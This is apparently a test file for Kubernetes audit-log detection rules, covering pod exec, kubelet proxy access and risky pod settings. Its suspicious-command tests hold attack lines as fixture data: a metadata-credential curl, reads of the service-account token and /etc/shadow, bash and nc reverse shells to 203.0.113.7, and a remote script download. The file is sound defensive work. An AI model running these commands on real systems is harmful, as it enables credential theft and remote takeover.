/** Rules about pods: sessions into them (exec, attach, port-forward, debug, kubelet proxy) and dangerous pods created. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DEFAULT_DETECTION_SETTINGS } from '../../../src/audit/detect/rule.js';
import type { AuditEvent } from '../../../src/audit/event.js';
import { container, debugPatch, done, kubelet, podCreate, replicaSetController, ruleById, run, testDetection } from './detection-tester.js';

const execRef = { resource: 'pods', subresource: 'exec', name: 'nginx-7c5ddbdf54-2xk8l', namespace: 'default' };
const execURI = '/api/v1/namespaces/default/pods/nginx-7c5ddbdf54-2xk8l/exec?command=sh&command=-c&command=id&container=nginx&stdin=true';

testDetection('AUDIT-EXEC-INTO-POD', {
  valid: [
    { name: 'reading the pod', events: [done({ verb: 'get', objectRef: { resource: 'pods', name: 'p', namespace: 'a' } })] },
    { name: 'the RequestReceived event of an exec', events: [done({ stage: 'RequestReceived', verb: 'create', requestURI: execURI, objectRef: execRef, responseStatus: undefined, annotations: undefined })] },
  ],
  invalid: [
    {
      name: 'an exec logged at ResponseStarted and ResponseComplete is one finding (Falco keys on the first)',
      events: [
        done({ auditID: 'a1', stage: 'RequestReceived', verb: 'create', requestURI: execURI, objectRef: execRef, responseStatus: undefined }),
        done({ auditID: 'a1', stage: 'ResponseStarted', verb: 'create', requestURI: execURI, objectRef: execRef, responseStatus: { code: 101 } }),
        done({ auditID: 'a1', verb: 'create', requestURI: execURI, objectRef: execRef, responseStatus: { code: 101 } }),
      ],
      field: 'requestURI',
      message: /^alice exec'd into default\/nginx-7c5ddbdf54-2xk8l \(command: sh -c id\)$/,
    },
    {
      name: 'a policy that omits ResponseStarted: reported at ResponseComplete (as Elastic)',
      events: [done({ auditID: 'b1', verb: 'create', requestURI: '/api/v1/namespaces/default/pods/p/exec?command=bash', objectRef: { ...execRef, name: 'p' }, responseStatus: { code: 101 } })],
      field: 'requestURI',
      message: /^alice exec'd into default\/p \(command: bash\)$/,
    },
    {
      name: 'two sessions are two findings',
      events: ['c1', 'c2'].flatMap((auditID) => [
        done({ auditID, stage: 'ResponseStarted', verb: 'create', requestURI: execURI, objectRef: execRef, responseStatus: { code: 101 } }),
        done({ auditID, verb: 'create', requestURI: execURI, objectRef: execRef, responseStatus: { code: 101 } }),
      ]),
      field: 'requestURI',
      message: /exec'd into/,
      count: 2,
    },
    {
      name: 'a WebSocket attach (verb get, kubectl 1.30+) that was refused',
      events: [done({ verb: 'get', requestURI: '/api/v1/namespaces/a/pods/p/attach?stdin=true', objectRef: { resource: 'pods', subresource: 'attach', name: 'p', namespace: 'a' }, responseStatus: { code: 403 }, annotations: { 'authorization.k8s.io/decision': 'forbid' } })],
      field: 'requestURI',
      message: /^alice attached to a\/p \(refused: 403\)$/,
    },
  ],
});

testDetection('AUDIT-PORT-FORWARD', {
  valid: [
    { name: 'an exec is another rule', events: [done({ verb: 'create', objectRef: execRef })] },
    { name: 'the RequestReceived event', events: [done({ stage: 'RequestReceived', verb: 'create', objectRef: { resource: 'pods', subresource: 'portforward', name: 'db', namespace: 'a' } })] },
  ],
  invalid: [
    {
      name: 'a tunnel to a database port',
      events: [done({ verb: 'create', requestURI: '/api/v1/namespaces/a/pods/db/portforward?ports=5432', objectRef: { resource: 'pods', subresource: 'portforward', name: 'db', namespace: 'a' } })],
      field: 'requestURI',
      message: /^alice port-forwarded into a\/db \(ports 5432\)$/,
    },
  ],
});

testDetection('AUDIT-EPHEMERAL-CONTAINER', {
  valid: [
    { name: 'reading the subresource', events: [done({ verb: 'get', objectRef: { resource: 'pods', subresource: 'ephemeralcontainers', name: 'p', namespace: 'a' } })] },
    { name: 'a refused attempt', events: [{ ...debugPatch([container({ name: 'debugger' })]), responseStatus: { code: 403 } }] },
    { name: 'a system: identity', events: [{ ...debugPatch([container({ name: 'debugger' })]), user: replicaSetController }] },
  ],
  invalid: [{ name: 'kubectl debug', events: [debugPatch([container({ name: 'debugger', image: 'busybox' })])], field: 'objectRef.subresource', message: /^alice added an ephemeral container to pod shop\/web$/ }],
});

testDetection('AUDIT-NODE-PROXY', {
  valid: [
    { name: 'metrics scraping', events: [done({ verb: 'get', requestURI: '/api/v1/nodes/w1/proxy/metrics/cadvisor', objectRef: { resource: 'nodes', subresource: 'proxy', name: 'w1' } })] },
    { name: 'a system: identity', events: [done({ verb: 'get', user: kubelet, requestURI: '/api/v1/nodes/w1/proxy/pods', objectRef: { resource: 'nodes', subresource: 'proxy', name: 'w1' } })] },
  ],
  invalid: [
    {
      name: "running a command through the kubelet's API",
      events: [done({ verb: 'create', requestURI: '/api/v1/nodes/w1/proxy/run/shop/web/app?cmd=id', objectRef: { resource: 'nodes', subresource: 'proxy', name: 'w1' } })],
      field: 'requestURI',
      message: /^alice reached the kubelet of node w1: create \/api\/v1\/nodes\/w1\/proxy\/run\/shop\/web\/app\?cmd=id$/,
    },
    { name: "listing the node's pods", events: [done({ verb: 'get', requestURI: '/api/v1/nodes/w1/proxy/pods', objectRef: { resource: 'nodes', subresource: 'proxy', name: 'w1' } })], field: 'requestURI', message: /kubelet of node w1: get/ },
    {
      name: "a workload's service account (a stolen token)",
      events: [done({ verb: 'create', user: { username: 'system:serviceaccount:shop:web' }, requestURI: '/api/v1/nodes/w1/proxy/exec/kube-system/etcd-w1/etcd?command=ls', objectRef: { resource: 'nodes', subresource: 'proxy', name: 'w1' } })],
      field: 'requestURI',
      message: /^system:serviceaccount:shop:web reached the kubelet of node w1: create /,
    },
  ],
});

const privileged = { securityContext: { privileged: true } };

testDetection('AUDIT-PRIVILEGED-POD', {
  valid: [
    { name: 'unprivileged', events: [podCreate({ containers: [container({ securityContext: { privileged: false } })] })] },
    { name: 'a pod read at RequestResponse', events: [done({ verb: 'get', objectRef: { resource: 'pods', name: 'web', namespace: 'shop' }, responseObject: { kind: 'Pod', spec: { containers: [container(privileged)] } } })] },
    { name: 'the RequestReceived event of a create', events: [{ ...podCreate({ containers: [container(privileged)] }), stage: 'RequestReceived' }] },
    { name: 'a status update of an existing pod', events: [done({ verb: 'update', objectRef: { resource: 'pods', subresource: 'status', name: 'web', namespace: 'shop' }, requestObject: { spec: { containers: [container(privileged)] } } })] },
    { name: 'an unprivileged debug container', events: [debugPatch([container({ name: 'debugger' })])] },
  ],
  invalid: [
    {
      name: 'a privileged init container',
      events: [podCreate({ initContainers: [container({ name: 'init', ...privileged })], containers: [container()] })],
      field: 'requestObject.spec.initContainers[0].securityContext.privileged',
      message: /^alice created pod shop\/web with privileged container init$/,
    },
    {
      name: 'the second container, by a controller (as in Falco\'s trace)',
      events: [podCreate({ containers: [container(), container({ name: 'sidecar', ...privileged })] }, 'default', replicaSetController)],
      field: 'requestObject.spec.containers[1].securityContext.privileged',
      message: /^system:serviceaccount:kube-system:replicaset-controller created pod default\/web with privileged container sidecar$/,
    },
    {
      name: 'a privileged ephemeral container added with kubectl debug --profile=sysadmin',
      events: [debugPatch([container({ name: 'debugger', image: 'busybox', ...privileged })])],
      field: 'requestObject.spec.ephemeralContainers[0].securityContext.privileged',
      message: /^alice added an ephemeral container to pod shop\/web with privileged container debugger$/,
    },
  ],
});

testDetection('AUDIT-HOSTNETWORK-POD', {
  valid: [{ name: 'hostNetwork false', events: [podCreate({ hostNetwork: false, containers: [container()] })] }],
  invalid: [{ name: 'hostNetwork', events: [podCreate({ hostNetwork: true, containers: [container()] })], field: 'requestObject.spec.hostNetwork', message: /^alice created pod shop\/web with hostNetwork$/ }],
});

testDetection('AUDIT-HOSTPID-POD', {
  valid: [{ name: 'no hostPID', events: [podCreate({ containers: [container()] })] }],
  invalid: [{ name: 'hostPID', events: [podCreate({ hostPID: true, containers: [container()] })], field: 'requestObject.spec.hostPID', message: /^alice created pod shop\/web with hostPID$/ }],
});

testDetection('AUDIT-HOSTIPC-POD', {
  valid: [{ name: 'no hostIPC', events: [podCreate({ hostIPC: false, containers: [container()] })] }],
  invalid: [{ name: 'hostIPC', events: [podCreate({ hostIPC: true, containers: [container()] })], field: 'requestObject.spec.hostIPC', message: /^alice created pod shop\/web with hostIPC$/ }],
});

const hostPath = (name: string, path: string) => ({ name, hostPath: { path } });

testDetection('AUDIT-SENSITIVE-MOUNT-POD', {
  valid: [
    { name: 'a directory below /etc is not /etc', events: [podCreate({ volumes: [hostPath('conf', '/etc/nginx')], containers: [container()] })] },
    { name: 'an emptyDir', events: [podCreate({ volumes: [{ name: 'cache', emptyDir: {} }], containers: [container()] })] },
  ],
  invalid: [
    {
      name: 'the container runtime socket',
      events: [podCreate({ volumes: [{ name: 'cache', emptyDir: {} }, hostPath('sock', '/run/containerd/containerd.sock')], containers: [container()] })],
      field: 'requestObject.spec.volumes[1].hostPath.path',
      message: /^alice created pod shop\/web mounting the host's \/run\/containerd\/containerd\.sock \(volume sock\)$/,
    },
    { name: '/etc/ with a trailing slash is /etc', events: [podCreate({ volumes: [hostPath('etc', '/etc/')], containers: [container()] })], field: 'requestObject.spec.volumes[0].hostPath.path', message: /mounting the host's \/etc \(volume etc\)$/ },
    { name: "the node's root", events: [podCreate({ volumes: [hostPath('host', '/')], containers: [container()] })], field: 'requestObject.spec.volumes[0].hostPath.path', message: /mounting the host's \/ \(volume host\)$/ },
  ],
});

const adding = (add: string[]) => ({ securityContext: { capabilities: { add } } });

testDetection('AUDIT-DANGEROUS-CAPABILITIES-POD', {
  valid: [
    { name: 'NET_BIND_SERVICE only', events: [podCreate({ containers: [container(adding(['NET_BIND_SERVICE']))] })] },
    { name: 'dropping SYS_ADMIN', events: [podCreate({ containers: [container({ securityContext: { capabilities: { drop: ['SYS_ADMIN'] } } })] })] },
  ],
  invalid: [
    {
      name: 'CAP_SYS_ADMIN in the second container',
      events: [podCreate({ containers: [container(), container({ name: 'agent', ...adding(['CHOWN', 'CAP_SYS_ADMIN']) })] })],
      field: 'requestObject.spec.containers[1].securityContext.capabilities.add',
      message: /^alice created pod shop\/web whose container agent adds SYS_ADMIN$/,
    },
    {
      name: 'a debug container with SYS_PTRACE',
      events: [debugPatch([container({ name: 'debugger', ...adding(['SYS_PTRACE']) })])],
      field: 'requestObject.spec.ephemeralContainers[0].securityContext.capabilities.add',
      message: /^alice added an ephemeral container to pod shop\/web whose container debugger adds SYS_PTRACE$/,
    },
  ],
});

testDetection('AUDIT-KUBE-NAMESPACE-POD', {
  settings: { ...DEFAULT_DETECTION_SETTINGS, trustedImages: [...DEFAULT_DETECTION_SETTINGS.trustedImages, 'quay.io/cilium/'] },
  valid: [
    { name: 'a control-plane image', events: [podCreate({ containers: [container({ image: 'registry.k8s.io/coredns/coredns:v1.11.1' })] }, 'kube-system', replicaSetController)] },
    { name: 'an image the user trusts', events: [podCreate({ containers: [container({ image: 'quay.io/cilium/cilium:v1.16.0' })] }, 'kube-system', replicaSetController)] },
    { name: 'another namespace', events: [podCreate({ containers: [container()] })] },
  ],
  invalid: [
    { name: 'nginx in kube-public', events: [podCreate({ containers: [container()] }, 'kube-public', replicaSetController)], field: 'requestObject.spec.containers[0].image', message: /created pod kube-public\/web running nginx:1\.27$/ },
    {
      name: 'a trusted main container with an untrusted init container',
      events: [podCreate({ initContainers: [container({ name: 'setup', image: 'alpine' })], containers: [container({ image: 'registry.k8s.io/pause:3.9' })] }, 'kube-system')],
      field: 'requestObject.spec.initContainers[0].image',
      message: /^alice created pod kube-system\/web running alpine$/,
    },
  ],
});

const exec = (command: string[], auditID = 'x1'): AuditEvent[] => {
  const requestURI = `/api/v1/namespaces/shop/pods/web/exec?${command.map((part) => `command=${encodeURIComponent(part)}`).join('&')}&container=app&stdin=true&stdout=true`;
  const objectRef = { resource: 'pods', subresource: 'exec', name: 'web', namespace: 'shop' };
  return [
    done({ auditID, stage: 'ResponseStarted', verb: 'create', requestURI, objectRef, responseStatus: { code: 101 } }),
    done({ auditID, verb: 'create', requestURI, objectRef, responseStatus: { code: 101 } }),
  ];
};

testDetection('AUDIT-EXEC-SUSPICIOUS-COMMAND', {
  valid: [
    { name: 'a shell', events: exec(['/bin/sh']) },
    { name: 'an ordinary command', events: exec(['ls', '-la', '/app']) },
    { name: 'curl to a local health endpoint without a scheme', events: exec(['curl', 'localhost:8080/healthz']) },
    { name: 'an attach (no command)', events: [done({ stage: 'ResponseStarted', verb: 'create', requestURI: '/api/v1/namespaces/shop/pods/web/attach', objectRef: { resource: 'pods', subresource: 'attach', name: 'web', namespace: 'shop' }, responseStatus: { code: 101 } })] },
  ],
  invalid: [
    { name: 'the instance metadata service', events: exec(['sh', '-c', 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/']), field: 'requestURI', message: /^alice ran a command in shop\/web that reaches for the cloud metadata service and a download: sh -c curl -s http:\/\/169\.254\.169\.254\/latest\/meta-data\/iam\/security-credentials\/$/ },
    { name: 'the service account token', events: exec(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']), field: 'requestURI', message: /reaches for credential files: cat \/var\/run\/secrets\/kubernetes\.io\/serviceaccount\/token$/ },
    { name: 'a reverse shell', events: exec(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']), field: 'requestURI', message: /reaches for a reverse shell:/ },
    { name: 'nc -e', events: exec(['nc', '203.0.113.7', '4444', '-e', '/bin/sh']), field: 'requestURI', message: /reaches for a reverse shell:/ },
    { name: 'a download over https', events: exec(['wget', '-qO-', 'https://203.0.113.7/x.sh']), field: 'requestURI', message: /reaches for a download: wget -qO- https:\/\/203\.0\.113\.7\/x\.sh$/ },
  ],
});

describe('exec rules together', () => {
  const both = [ruleById('AUDIT-EXEC-INTO-POD'), ruleById('AUDIT-EXEC-SUSPICIOUS-COMMAND')];
  it('a suspicious exec is one finding, of the suspicious-command rule', () => {
    const hits = run(both, exec(['cat', '/etc/shadow']));
    assert.deepEqual(hits.map((hit) => hit.rule.meta.id), ['AUDIT-EXEC-SUSPICIOUS-COMMAND']);
  });
  it('an ordinary exec is one finding, of the exec rule', () => {
    const hits = run(both, exec(['ls']));
    assert.deepEqual(hits.map((hit) => hit.rule.meta.id), ['AUDIT-EXEC-INTO-POD']);
  });
});

testDetection('AUDIT-HOSTNETWORK-POD', {
  valid: [],
  invalid: [
    {
      name: 'a create refused by admission is reported as an attempt',
      events: [{ ...podCreate({ hostNetwork: true, containers: [container()] }), responseStatus: { code: 403, reason: 'Forbidden' }, responseObject: { kind: 'Status', code: 403 } }],
      field: 'requestObject.spec.hostNetwork',
      message: /^alice tried to create pod shop\/web with hostNetwork \(refused: 403\)$/,
    },
    {
      name: 'judged on the pod as admitted, named as the server named it, when the response is recorded (RequestResponse)',
      events: [{ ...podCreate({ containers: [container()] }), responseObject: { kind: 'Pod', metadata: { name: 'web-x1' }, spec: { hostNetwork: true, containers: [container()] } } }],
      field: 'responseObject.spec.hostNetwork',
      message: /^alice created pod shop\/web-x1 with hostNetwork$/,
    },
  ],
});

describe('exec sessions are remembered within bounds', () => {
  it('past ten thousand open sessions the oldest is forgotten (and reported again when it ends); newer ones are not', () => {
    const started = (auditID: string) => done({ auditID, stage: 'ResponseStarted', verb: 'create', requestURI: execURI, objectRef: execRef, responseStatus: { code: 101 } });
    const completed = (auditID: string) => ({ ...started(auditID), stage: 'ResponseComplete' });
    const ids = Array.from({ length: 10_001 }, (_, index) => `s${index}`);
    const hits = run([ruleById('AUDIT-EXEC-INTO-POD')], [...ids.map(started), completed('s0'), completed('s10000')]);
    assert.equal(hits.length, 10_002);
  });
});
